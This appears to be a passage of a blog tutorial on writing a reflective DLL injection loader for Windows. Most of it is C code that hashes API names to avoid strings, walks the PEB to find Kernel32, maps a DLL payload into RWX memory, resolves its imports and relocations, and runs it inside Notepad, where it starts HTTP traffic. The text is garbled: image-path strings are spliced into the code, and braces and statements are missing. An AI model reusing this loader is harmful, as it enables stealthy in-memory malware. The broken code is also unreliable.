The API Hash routine is a fairly simple one and will allow us to avoidthe usage of direct strings in the code (as an alternative stack strings could have been used). In the case of this API Hash routine we will pass in the strings and comapre the resulting hash against a value we are expecting, such as 0x50c4067 which is the hash for KERNEL32.DLL.

DWORD GetHashFromStringA(LPSTR string) {

        SIZE_T stringSize = GetSizeOfStringA(string);
        DWORD hash = 0x35;

        for (SIZE_T i = 0; i < stringSize; i++) {
                hash += (hash * 0xab10f29e + string[i]) & 0xffffff;return hash;
API Hasing Algorithm

In a x64 process the GS segment register will hold the address of the Thread Environment Block (TEB). 60 bytes after the start of the TEB is a address to the Process Environment Block (PEB).

We are interested in the PEB as it will provide us access to a data strucure indicating all the loaded modules in the current process, includingthe address of Kernel32.dll.

        //Through PEB find the base address of Kernel32.dll

        _PPEB pPEB = (_PPEB)__readgsqword(0x60);
        PLDR_DATA_TABLE_ENTRY pCurrentPLDRDataTableEntry = (PLDR_DATA_TABLE_ENTRY)pPEB->pLdr->InMemoryOrderModuleList.Flink;
        ULONG_PTR pKernel32Module = NULL;
Get a Pointer to the PEB

Each currently loaded module is looped through and the hashed name of that module is compared to the Kernel32.dll string hash that we are expecting. Once the correct string is found the base address of the module is saved.

        do {
                PWSTR currentModuleString = pCurrentPLDRDataTableEntry->BaseDllName.pBuffer;
                if (GetHashFromStringW(currentModuleString) == KERNEL32DLL_HASH) {
                        pKernel32Module = (ULONG_PTR)pCurrentPLDRDataTableEntry->DllBase;

                pCurrentPLDRDataTableEntry = (PLDR_DATA_TABLE_ENTRY)pCurrentPLDRDataTableEntry->InMemoryOrderModuleList.Flink;

        } while (pCurrentPLDRDataTableEntry->TimeDateStamp != 0);
Parse the Loaded Modules Looking for Kernel32.dll

After the address of Kernel32.dll is found the functions of interest can be resolved to their address and used later in the program.

        VIRTUALALLOC pVirtualAlloc =(VIRTUALALLOC)GetFunctionOffset(VIRTUALALLOC_HASH, (PIMAGE_DOS_HEADER)pKernel32Module);
        LOADLIBRARYA pLoadLibraryAAddress = (LOADLIBRARYA)GetFunctionOffset(LOADLIBRARYA_HASH, (PIMAGE_DOS_HEADER)pKernel32Module);
Resolve Functions via API Hashing

Make a mapped copy of the Reflective DLL Payload

Now we can start using the Win32 API functions that have been resolved. The first step is to allocate a new buffer space into which the DLL will be mapped.

Note, we are making an exact replica of the DLL Payload that has already been copied into the memory space of the process.

        // Find SizeOfImage from the current DLL in memory
        PIMAGE_NT_HEADERS pCurrentDLLModuleNTHeaders = (PIMAGE_NT_HEADERS)(pCurrentDLLModule->e_lfanew + (LPBYTE)pCurrentDLLModule);
        DWORD sizeOfImageOfCurrentDLLModule = pCurrentDLLModuleNTHeaders->OptionalHeader.SizeOfImage;

        // Allocate enough space to copy the DLL over and map it in memory
        LPVOID pMappedCurrentDLL = pVirtualAlloc(NULL, sizeOfImageOfCurrentDLLModule, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
Allocate a Second Buffer to store a Replica of DLL Payload

The first part of the mapping process is to copy the PE headers into the newly allocatedbuffer.

        // Copy PE headers to pMappedCurrentDLL
        DWORD sizeOfHeaders = pCurrentDLLModuleNTHeaders->OptionalHeader.SizeOfHeaders;
        for (DWORD i = 0; i < sizeOfHeaders; i++) {
                ((LPBYTE)pMappedCurrentDLL)[i] = ((LPBYTE)pCurrentDLLModule)[i];
Copy the DLL Payload PE Headers into Newly Allocated Memory

Next each PE section will need to be copied to the newly allocated buffer at the virtual address offsets. This is critical to the process of mapping the DLL.

        DWORD numberOfSections = pCurrentDLLModuleNTHeaders->FileHeader.NumberOfSections;

        PIMAGE_OPTIONAL_HEADER64 pCurrentDLLModuleOptionalHeader = &pCurrentDLLModuleNTHeaders->OptionalHeader;
        PIMAGE_SECTION_HEADER pCurrentSectionHeader = (PIMAGE_SECTION_HEADER)(pCurrentDLLModuleNTHeaders->FileHeader.SizeOfOptionalHeader + (LPBYTE)pCurrentDLLModuleOptionalHeader);

        for (DWORD i = 0; i < numberOfSections; i++) {

                if (pCurrentSectionHeader->SizeOfRawData != 0) {
                        LPBYTE pDestinationAddress = (LPBYTE)pMappedCurrentDLL + pCurrentSectionHeader->VirtualAddress;
                        LPBYTE pSourceAddress = (LPBYTE)pCurrentDLLModule + pCurrentSectionHeader->PointerToRawData;
                        DWORD currentSectionRawSize = pCurrentSectionHeader->SizeOfRawData; // We copy the entire section, if an entire section is not needed in memory the uneeded portion will be overwritten by another sectionfor (DWORD i = 0; i < currentSectionRawSize; i++) {
                                pDestinationAddress[i] = pSourceAddress[i];

Map the PE Sections into MemoryResolve the IAT of the Mapped Version of Reflective DLL Payload

Now that the PE Headers and PE Sections are mapped into the buffer the IAT will need to be resolved. This is important as the various functions used by the payload (HttpOpenRequestA, InternetConnectA, …) will not work if the IAT is not correctly updated.

        PIMAGE_NT_HEADERS64 pMappedCurrentDLLNTHeader = (PIMAGE_NT_HEADERS64)(((PIMAGE_DOS_HEADER)pMappedCurrentDLL)->e_lfanew + (LPBYTE)pMappedCurrentDLL);
        PIMAGE_IMPORT_DESCRIPTOR pMappedCurrentDLLImportDescriptor = (PIMAGE_IMPORT_DESCRIPTOR)(pMappedCurrentDLLNTHeader->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_IMPORT].VirtualAddress + (LPBYTE)pMappedCurrentDLL);

        while (pMappedCurrentDLLImportDescriptor->Name != NULL) {
                LPSTR currentDLLName = (LPSTR)(pMappedCurrentDLLImportDescriptor->Name + (LPBYTE)pMappedCurrentDLL);
                HMODULE hCurrentDLLModule = pLoadLibraryAAddress(currentDLLName);PIMAGE_THUNK_DATA64 pImageThunkData = (PIMAGE_THUNK_DATA64)(pMappedCurrentDLLImportDescriptor->FirstThunk + (LPBYTE)pMappedCurrentDLL);

                while (pImageThunkData->u1.AddressOfData) {

                        if (pImageThunkData->u1.Ordinal & 0x8000000000000000) {
                                // Import is by ordinal

                                FARPROC resolvedImportAddress = pGetProcAddressAddress(hCurrentDLLModule, MAKEINTRESOURCEA(pImageThunkData->u1.Ordinal));

                                if (resolvedImportAddress == NULL) {

                                // Overwrite entry in IAT with the address of resolved function
                                pImageThunkData->u1.AddressOfData = (ULONGLONG)resolvedImportAddress;

                        else{
                                // Import is by name
                                PIMAGE_IMPORT_BY_NAME pAddressOfImportData = (PIMAGE_IMPORT_BY_NAME)((pImageThunkData->u1.AddressOfData) + (LPBYTE)pMappedCurrentDLL);
                                FARPROC resolvedImportAddress = pGetProcAddressAddress(hCurrentDLLModule, pAddressOfImportData->Name);

                                if (resolvedImportAddress == NULL) {

                                // Overwrite entry in IAT with the address of resolved function
                                pImageThunkData->u1.AddressOfData = (ULONGLONG)resolvedImportAddress;



Resolve IAT

Update the Base Relocation Table of the Reflective DLL Payload

Lastly, the Base Relocation Table will need to be updated in order to ensure that any hardcoded address in the DLL will resolve properly with the new base offset.

        DWORD numberOfRelocEntires;
        PIMAGE_BASE_RELOCATION pCurrentBaseRelocation = (PIMAGE_BASE_RELOCATION)(pMappedCurrentDLLNTHeader->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_BASERELOC].VirtualAddress + (LPBYTE)pMappedCurrentDLL);
        PIMAGE_RELOC pCurrentBaseRelocationEntry;

        while (pCurrentBaseRelocation->VirtualAddress != 0) {

                numberOfRelocEntires = ((pCurrentBaseRelocation->SizeOfBlock) - 0x8) / 0x2;
                pCurrentBaseRelocationEntry = (PIMAGE_RELOC)((LPBYTE)pCurrentBaseRelocation + sizeof(IMAGE_BASE_RELOCATION));

                for (DWORD i = numberOfRelocEntires; i != 0; i--) {if (pCurrentBaseRelocationEntry->type == IMAGE_REL_BASED_DIR64) {

                pCurrentBaseRelocation = (PIMAGE_BASE_RELOCATION)((LPBYTE)pCurrentBaseRelocation + pCurrentBaseRelocation->SizeOfBlock);
Fix the Base Reallocation Table

Invoke DLLMain of the Reflective DLL Payload

Now with the DLL Headers and PE Sections mapped, IAT entries resovled, and Base Relocation Table fixed the DLLMain of the DLL can be invoked.

        ULONG_PTR pDllEntryPoint = (ULONG_PTR)(pMappedCurrentDLLNTHeader->OptionalHeader.AddressOfEntryPoint + (LPBYTE)pMappedCurrentDLL);

        pFlushInstructionCache((HANDLE)-1, NULL, 0);

        ((DLLMAIN)pDllEntryPoint) ((HINSTANCE)pMappedCurrentDLL, DLL_PROCESS_ATTACH, NULL);
Invoke EntrypointReflective DLL Injection Demonstration

The following GIF provides a video demonstration of the injection process. We can see the injector running and injecting into a Notepad process (PID 8020). Once this occurs there is thread activity inthe Notepad process. Shortly after HTTP activity beings in Wireshark indicating a successful injection.

Injection Demonstration

Digging deeper into the Notepad process inside of Process Hacker we can see a memory section that isreadable, writable, and executablecontaining our injected DLL Payload.

Injected DLL Payload in Memory

We can also see The Winhttp.dll loaded into Notepad. Of course, this is not loaded by Notepad itself but by our DLL Payload that requires it for itsfunctionality.

WINHTTP.DLL loaded after the IAT was resolved